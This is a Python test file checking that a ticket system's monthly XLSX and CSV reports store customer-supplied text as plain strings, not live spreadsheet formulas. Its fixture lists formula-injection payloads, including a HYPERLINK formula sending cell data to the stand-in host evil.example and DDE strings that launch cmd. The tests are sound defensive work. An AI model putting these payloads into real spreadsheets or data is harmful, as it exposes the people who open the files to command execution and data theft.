"""Customers' words in the monthly report stay words: never a live spreadsheet formula."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl

from daemon.report.csv_out import monthly_csv
from daemon.report.monthly import MonthTickets, compile_monthly
from daemon.report.periods import AsOf, Month
from daemon.report.xlsx_out import monthly_xlsx
from daemon.route.loader import load_rules
from tests.integration.helpers import PROJECT
from tests.reportmonth import JAKARTA, NOW, OCTOBER, make_ticket

RULES = load_rules(PROJECT / "rules.yaml")
FORMULAS = {
    "subject": '=HYPERLINK("http://evil.example/?"&C2&D2,"Klik / click")',
    "description": "=cmd|' /C calc'!A0",
    "customer_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "customer_organisation": "+1+41",
    "root_cause": "-2+3",
    "corrective_action": "\t=1+41",
    "preventive_action": "\uff1d1+41",  # a full-width equals sign
    "effectiveness": "  =1+41",
}


def _report() -> object:
    tickets = [make_ticket(line, RULES) for line in OCTOBER[:3]]
    hostile = tickets[0].model_copy(update=FORMULAS)
    # A recap cell typed as text `=1+41` arrives as a ticket's subject like this one.
    recap = tickets[1].model_copy(update={"subject": "=1+41", "origin": "branch:biro-jatim"})
    return compile_monthly(
        Month(2026, 10),
        RULES,
        AsOf(NOW, JAKARTA.key),
        MonthTickets([hostile, recap, tickets[2]], [], [hostile], recap_files=[]),
    )


def test_report_workbook_holds_customer_formulas_as_plain_text() -> None:
    data = monthly_xlsx(_report(), organisation="Harian Nusantara")  # type: ignore[arg-type]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
        assert sheets
        for name in sheets:
            assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    texts = {
        cell.value: cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }
    for text in (*FORMULAS.values(), "=1+41"):
        assert text in texts, text
        assert texts[text].data_type == "s"
        assert texts[text].quotePrefix, text


def test_report_csv_prefixes_every_cell_that_could_start_a_formula() -> None:
    rows = list(csv.reader(io.StringIO(monthly_csv(_report()))))  # type: ignore[arg-type]
    cells = [value for row in rows for value in row]
    for text in (*FORMULAS.values(), "=1+41"):
        assert "'" + text in cells, text
        assert text not in cells, text
    dangerous = [value for value in cells if value and value[0] in "=+-@\t\r\uff1d"]
    assert dangerous == []
    # Numbers stay numbers: the monthly total is a bare count.
    assert ["total", "3"] in rows
